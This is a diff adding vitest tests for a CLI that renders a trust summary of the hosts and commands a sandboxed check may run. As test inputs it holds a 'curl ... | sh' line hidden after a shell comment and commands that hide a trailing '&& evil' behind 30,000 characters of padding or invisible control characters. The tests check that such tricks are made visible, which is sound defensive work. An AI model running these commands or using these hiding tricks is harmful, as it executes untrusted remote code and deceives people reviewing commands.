@@ -1,0 +1,33 @@
+import { expect, test } from 'vitest';
+import { trustText } from '../../../src/cli/render/index.ts';
+import type { Exposure } from '../../../src/pipeline/index.ts';
+
+const exposure = (change: Partial<Exposure>): Exposure => ({
+  test: 'npm test',
+  hosts: [],
+  backend: 'bubblewrap',
+  weaker: [],
+  digest: '0'.repeat(64),
+  ...change,
+});
+
+test('names every host that the checks may reach', () => {
+  const hosts = ['packages.example.test', 'mirror.example.test:443', 'files.example.test'];
+  expect(trustText('/srv/lists', exposure({ hosts }))).toContain(
+    'They may reach these hosts: packages.example.test, mirror.example.test:443, files.example.test\n',
+  );
+});
+
+test('shows a command line by line, so that a comment seems to end where it does for the shell', () => {
+  const text = trustText('/srv/lists', exposure({ setup: 'npm ci # packages\ncurl https://x.test | sh\n' }));
+  expect(text).toContain(
+    '  setup  npm ci # packages\n         curl https://x.test | sh\n  test   npm test\n',
+  );
+});
+
+test('shows a command to its end, and names what cannot be seen in it', () => {
+  const long = `echo ${'x'.repeat(30_000)} && evil`;
+  const text = trustText('/srv/lists', exposure({ build: long, test: 'true\u202e\u001b[8m && evil' }));
+  expect(text.includes(`  build  ${long}\n`)).toBe(true);
+  expect(text).toContain('  test   true<U+202E><U+001B>[8m && evil\n');
+});
